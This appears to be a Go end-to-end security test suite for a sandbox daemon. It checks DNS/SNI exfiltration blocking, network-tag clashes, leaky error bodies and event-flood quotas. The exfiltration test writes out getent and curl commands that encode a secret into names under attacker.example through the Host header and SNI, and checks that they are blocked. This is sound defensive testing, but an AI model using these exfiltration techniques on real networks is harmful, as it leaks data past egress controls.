package e2e

import (
	"context"
	"errors"
	"fmt"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/sbxhq/sbx/api"
	"github.com/sbxhq/sbx/client"
)

// Hostile-guest and hostile-client tests of the network, the daemon's
// network identity, events and error bodies (docs/security.md, "DNS,
// events, network locks, error bodies and keys"). Names a test resolves go
// to the test DNS upstream on loopback (upstream), which logs every name
// that reaches it; packets go only to test namespaces.

// seenByUpstream reports whether any name that reached the test DNS
// upstream contains marker.
func seenByUpstream(marker string) bool {
	for _, n := range upstream.Seen() {
		if strings.Contains(n, marker) {
			return true
		}
	}
	return false
}

// TestHostileDNSExfiltration: root in a sandbox whose allow list holds
// only CIDRs encodes data in names (exfil-<hex>.attacker.example) and asks
// for them by every route it has: the resolver, TCP DNS, and the Host and
// SNI of connections to an allowed address. None may reach the upstream
// resolver; the refusals are in the network log. A sandbox with the
// internet open still resolves any name (the control: the resolver logs).
func TestHostileDNSExfiltration(t *testing.T) {
	ctx := ctxT(t)
	out := startOutside(t)
	marker := "x" + randomHex(6)
	sb := newSandbox(t, api.CreateSandboxRequest{Image: "default", Network: &api.NetworkRules{
		Internet: true, Allow: []string{out.Addr.String()},
	}})
	secret := "exfil-" + marker + "-736563726574.attacker.example"
	for _, cmd := range []string{
		"getent hosts " + secret,
		"getent ahosts tcp-" + secret,
		// The allowed address by name: the proxy is not in the path
		// (no domain in the rules), the firewall decides by address.
		"curl -sS -m 5 -H 'Host: http-" + secret + "' http://" + out.Addr.String() + "/",
		"curl -sS -m 5 -k --resolve tls-" + secret + ":443:" + out.Addr.String() + " https://tls-" + secret + "/",
	} {
		sh(t, sb, cmd)
	}
	// The address itself is reachable: the rule allows it.
	if got := mustSh(t, sb, "curl -sS -m 5 http://"+out.Addr.String()+"/"); !strings.Contains(got, "hello") {
		t.Fatalf("the allowed address: %q", got)
	}
	if res := sh(t, sb, "getent hosts "+secret); res.ExitCode == 0 {
		t.Errorf("%s resolved: %q", secret, res.Stdout)
	}
	// With a name in the list as well, only that name leaves.
	if _, err := sb.Network().Set(ctx, api.NetworkRules{Internet: true, Allow: []string{"outside.test", out.Addr.String()}}); err != nil {
		t.Fatal(err)
	}
	if got := mustSh(t, sb, "curl -sS -m 5 http://outside.test/"); got != "hello from outside.test" {
		t.Fatalf("allowed name: %q", got)
	}
	sh(t, sb, "getent hosts mixed-"+secret)
	sh(t, sb, "curl -sS -m 5 -H 'Host: proxy-"+secret+"' http://"+out.Addr.String()+"/")
	sh(t, sb, "curl -sS -m 5 -k --resolve sni-"+secret+":443:"+out.Addr.String()+" https://sni-"+secret+"/")
	if seenByUpstream(marker) {
		var leaked []string
		for _, n := range upstream.Seen() {
			if strings.Contains(n, marker) {
				leaked = append(leaked, n)
			}
		}
		t.Fatalf("names reached the upstream resolver: %v", leaked)
	}
	l, err := sb.Network().Log(ctx)
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, e := range l.Refused {
		if e.Kind == "dns" && strings.Contains(e.Destination, marker) {
			found = true
		}
	}
	if !found {
		t.Errorf("no DNS refusal of the exfil names in the network log: %+v", l.Refused)
	}

	// Control: the internet open, names are forwarded as before, and the
	// upstream's log shows them.
	open := newSandbox(t, api.CreateSandboxRequest{Image: "default"})
	sh(t, open, "getent hosts open-"+marker+".attacker.example")
	if !seenByUpstream("open-" + marker) {
		t.Fatal("the open sandbox's query did not reach the upstream (is the resolver logging?)")
	}
}

// startRefused starts another sbxd with a data dir, socket and netns dir
// of its own but the given network tag and CIDR, and returns its output
// once it exits; the test fails if it still runs after 30 s (it started).
func startRefused(t *testing.T, tag, cidr string) string {
	t.Helper()
	tmp := t.TempDir()
	netnsDir := filepath.Join("/run", "sbx-e2e-clash-"+randomHex(4))
	t.Cleanup(func() {
		ents, _ := os.ReadDir(netnsDir)
		for _, e := range ents {
			_ = syscall.Unmount(filepath.Join(netnsDir, e.Name()), syscall.MNT_DETACH)
		}
		_ = syscall.Unmount(netnsDir, syscall.MNT_DETACH)
		_ = os.RemoveAll(netnsDir)
	})
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, filepath.Join(h.binDir, "sbxd"), "--data-dir", filepath.Join(tmp, "data"),
		"--socket", filepath.Join(tmp, "sbx.sock"), "--cache-dir", h.cacheDir, "--netns-dir", netnsDir, "--pool", "0",
		"--network-tag", tag, "--network-cidr", cidr, "--dns-upstream", h.dnsUpstream)
	start := time.Now()
	out, err := cmd.CombinedOutput()
	if ctx.Err() != nil {
		t.Errorf("a second sbxd with tag %s and CIDR %s started (it ran until killed after 30 s):\n%s", tag, cidr, tailStr(string(out), 2000))
	} else if err == nil {
		t.Errorf("a second sbxd with tag %s and CIDR %s exited 0:\n%s", tag, cidr, out)
	} else {
		t.Logf("refused in %v: %s", time.Since(start).Round(time.Millisecond), strings.TrimSpace(string(out)))
	}
	return string(out)
}

// TestHostileNetworkIdentityClash: a second sbxd given the network tag of
// a running one, or a CIDR overlapping its CIDR, refuses to start with an
// error naming the first (its pid), and the first's sandbox keeps its
// network. Before the host-wide locks, the second deleted the first's
// interfaces and firewall rules, silently.
func TestHostileNetworkIdentityClash(t *testing.T) {
	startOutside(t)
	sb := newSandbox(t, api.CreateSandboxRequest{Image: "default", Network: &api.NetworkRules{
		Internet: true, Allow: []string{"outside.test"},
	}})
	reach := func(when string) {
		t.Helper()
		if res := sh(t, sb, "curl -sS -m 5 http://outside.test/"); res.ExitCode != 0 || res.Stdout != "hello from outside.test" {
			t.Fatalf("%s: the first sbxd's sandbox lost its network: %+v", when, res)
		}
	}
	reach("before")
	pid := fmt.Sprintf("pid %d", h.cmd.Process.Pid)
	first := netip.MustParsePrefix(h.netCIDR)

	// The same tag, a CIDR apart.
	other := first
	for other.Overlaps(first) {
		_, c := netIdentity('g')
		other = netip.MustParsePrefix(c)
	}
	msg := startRefused(t, h.netTag, other.String())
	if !strings.Contains(msg, fmt.Sprintf("network tag %q is held by another sbxd: %s", h.netTag, pid)) || !strings.Contains(msg, h.dataDir) {
		t.Errorf("the error does not name the tag and its holder (%s, %s): %s", pid, h.dataDir, msg)
	}
	reach("after a second sbxd with the same tag")

	// Another tag, a CIDR inside the first's.
	tag, _ := netIdentity('g')
	t.Cleanup(func() { removeNetwork(tag, "") })
	inner := netip.PrefixFrom(first.Addr(), 24)
	msg = startRefused(t, tag, inner.String())
	if !strings.Contains(msg, "overlaps "+first.String()) || !strings.Contains(msg, pid) {
		t.Errorf("the error does not name the overlapping CIDR and its holder (%s): %s", pid, msg)
	}
	reach("after a second sbxd with an overlapping CIDR")

	// The first sbxd still manages its sandboxes' networks.
	if _, err := sb.Network().Set(ctxT(t), api.NetworkRules{Internet: false}); err != nil {
		t.Fatal(err)
	}
	if res := sh(t, sb, "curl -sS -m 3 http://outside.test/"); res.ExitCode == 0 {
		t.Fatalf("internet off, yet: %q", res.Stdout)
	}
}

// TestHostileErrorBodies: operations that fail underneath (a restore
// whose chunks are gone, a checkpoint into a full blob store) answer their
// code, a message without host paths and the request id; sbxd's log holds
// the cause under that id.
func TestHostileErrorBodies(t *testing.T) {
	ctx := ctxT(t)
	check := func(t *testing.T, err error, code api.Code, d *harness, hostPaths ...string) {
		t.Helper()
		ae := wantCode(t, err, code)
		for _, p := range hostPaths {
			if strings.Contains(ae.Message, p) {
				t.Errorf("the %s body shows the host path %s: %q", code, p, ae.Message)
			}
		}
		if ae.RequestID == "" || !strings.Contains(ae.Message, ae.RequestID) {
			t.Errorf("no request id in the %s body: %+v", code, ae)
		}
		if ae.RequestID != "" && !strings.Contains(tail(d.logPath, 1<<20), ae.RequestID) {
			t.Errorf("sbxd's log has nothing under %s", ae.RequestID)
		}
	}
	// On btrfs layers a checkpoint is a snapshot, stored in the background,
	// and a restore swaps the snapshot in: the blob store is read (and
	// written) synchronously on plain-directory layers, and on btrfs by a
	// verify, a diff or a suspend, which store a pending checkpoint first.
	t.Run("restore_failed", func(t *testing.T) {
		d := second(t, "--pool", "0", "--layers", "dir")
		sb, err := d.c.Sandboxes.Create(ctx, api.CreateSandboxRequest{})
		if err != nil {
			t.Fatal(err)
		}
		mustSh(t, sb, "head -c 3000000 /dev/urandom > /workspace/data")
		cp, err := sb.Checkpoint(ctx, "")
		if err != nil {
			t.Fatal(err)
		}
		if removeNewestBlobs(t, filepath.Join(d.dataDir, "blobs"), 3) == 0 {
			t.Fatal("no blob to remove")
		}
		mustSh(t, sb, "echo changed > /workspace/data")
		check(t, sb.Restore(ctx, cp.ID, nil), api.CodeRestoreFailed, d, d.dataDir, "/blobs/")
	})
	full := func(t *testing.T) string {
		tiny := t.TempDir()
		if err := syscall.Mount("tmpfs", tiny, "tmpfs", 0, "size=8m"); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { syscall.Unmount(tiny, syscall.MNT_DETACH) })
		return tiny
	}
	t.Run("checkpoint_failed", func(t *testing.T) {
		tiny := full(t)
		d := second(t, "--pool", "0", "--layers", "dir", "--blob-store", tiny)
		sb, err := d.c.Sandboxes.Create(ctx, api.CreateSandboxRequest{})
		if err != nil {
			t.Fatal(err)
		}
		mustSh(t, sb, "head -c 20000000 /dev/urandom > /workspace/big")
		_, err = sb.Checkpoint(ctx, "too big")
		check(t, err, api.CodeCheckpointFailed, d, d.dataDir, tiny)
	})
	t.Run("checkpoint_failed_store", func(t *testing.T) {
		if testLayers() == "dir" {
			t.Skip("a background store comes with btrfs layers; checkpoint_failed covers this pass")
		}
		tiny := full(t)
		d := second(t, "--pool", "0", "--blob-store", tiny)
		sb, err := d.c.Sandboxes.Create(ctx, api.CreateSandboxRequest{})
		if err != nil {
			t.Fatal(err)
		}
		mustSh(t, sb, "head -c 20000000 /dev/urandom > /workspace/big")
		cp, err := sb.Checkpoint(ctx, "too big")
		if err != nil {
			t.Fatalf("checkpoint (a snapshot): %v", err)
		}
		_, err = sb.GetCheckpoint(ctx, cp.ID, true)
		check(t, err, api.CodeCheckpointFailed, d, d.dataDir, tiny)
	})
}

// rssKiB is the resident memory of process pid, in KiB.
func rssKiB(pid int) int {
	b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	for _, l := range strings.Split(string(b), "\n") {
		if v, ok := strings.CutPrefix(l, "VmRSS:"); ok {
			var n int
			fmt.Sscanf(strings.TrimSpace(v), "%d", &n)
			return n
		}
	}
	return 0
}

// TestHostileEventFlood: a client posting 1 MiB events as fast as it can
// is stopped by the per-key cap (429 quota_exceeded naming the key) and
// by the total cap (another key); the pending events can be listed in
// pages of bounded size and cancelled, after which posts pass again.
func TestHostileEventFlood(t *testing.T) {
	ctx := ctxT(t)
	key := "flood-" + randomHex(4)
	body := make([]byte, 1<<20)
	for i := range body {
		body[i] = 'a' + byte(i%26)
	}
	t.Cleanup(func() { _, _ = h.c.Events.CancelKey(context.Background(), key) })
	accepted := 0
	var refused error
	for range 40 {
		if _, err := h.c.Events.Post(ctx, key, body, "text/plain"); err != nil {
			refused = err
			break
		}
		accepted++
	}
	if refused == nil {
		t.Fatalf("40 events of 1 MiB to one key were all stored")
	}
	ae := wantCode(t, refused, api.CodeQuotaExceeded)
	if accepted != 16 || !strings.Contains(ae.Message, key) {
		t.Errorf("accepted %d events (want 16: 16 MiB per key); message %q", accepted, ae.Message)
	}

	// Pages: at most 4 MiB of bodies each, whatever the limit asked.
	before := rssKiB(h.cmd.Process.Pid)
	var ids []string
	cursor := ""
	pages := 0
	for {
		page, next, err := h.c.Events.Pending(ctx, key, client.PageOptions{Cursor: cursor, Limit: 1000})
		if err != nil {
			t.Fatal(err)
		}
		pages++
		if len(page) > 4 {
			t.Errorf("a page of %d events of 1 MiB", len(page))
		}
		for _, ev := range page {
			if ev.Key != key || len(ev.DataText) != 1<<20 || ev.ExpireTime == nil {
				t.Fatalf("pending event %s: key %q, %d bytes, expire %v", ev.ID, ev.Key, len(ev.DataText), ev.ExpireTime)
			}
			ids = append(ids, ev.ID)
		}
		if next == "" {
			break
		}
		cursor = next
		if pages > 40 {
			t.Fatal("pages do not end")
		}
	}
	t.Logf("%d pending events in %d pages; sbxd RSS %d → %d MiB", len(ids), pages, before>>10, rssKiB(h.cmd.Process.Pid)>>10)
	if len(ids) != accepted {
		t.Fatalf("listed %d pending events, %d were accepted", len(ids), accepted)
	}
	if _, _, err := h.c.Events.Pending(ctx, key, client.PageOptions{Limit: 1001}); err == nil {
		t.Error("a page of 1001 events was accepted")
	}

	// Cancel one, then the rest; the key takes events again.
	if err := h.c.Events.Cancel(ctx, ids[0]); err != nil {
		t.Fatal(err)
	}
	if err := h.c.Events.Cancel(ctx, ids[0]); !errors.Is(err, client.ErrEventNotFound) {
		t.Fatalf("cancel twice: %v", err)
	}
	if n, err := h.c.Events.CancelKey(ctx, key); err != nil || n != accepted-1 {
		t.Fatalf("cancel the key: %d, %v", n, err)
	}
	if _, err := h.c.Events.Post(ctx, key, body, "text/plain"); err != nil {
		t.Fatalf("a post after cancelling: %v", err)
	}

	// The total cap, on an sbxd configured low: keys apart, it still
	// stops.
	cfg := filepath.Join(t.TempDir(), "sbxd.json")
	if err := os.WriteFile(cfg, []byte(`{"event_limits": {"total_bytes": 4194304}}`), 0o600); err != nil {
		t.Fatal(err)
	}
	d := second(t, "--pool", "0", "--config", cfg)
	n := 0
	var err error
	for ; n < 10; n++ {
		if _, err = d.c.Events.Post(ctx, fmt.Sprintf("k%d", n), body, "text/plain"); err != nil {
			break
		}
	}
	if n != 4 || err == nil {
		t.Fatalf("with 4 MiB in all: %d events of 1 MiB stored, then %v", n, err)
	}
	wantCode(t, err, api.CodeQuotaExceeded)
}
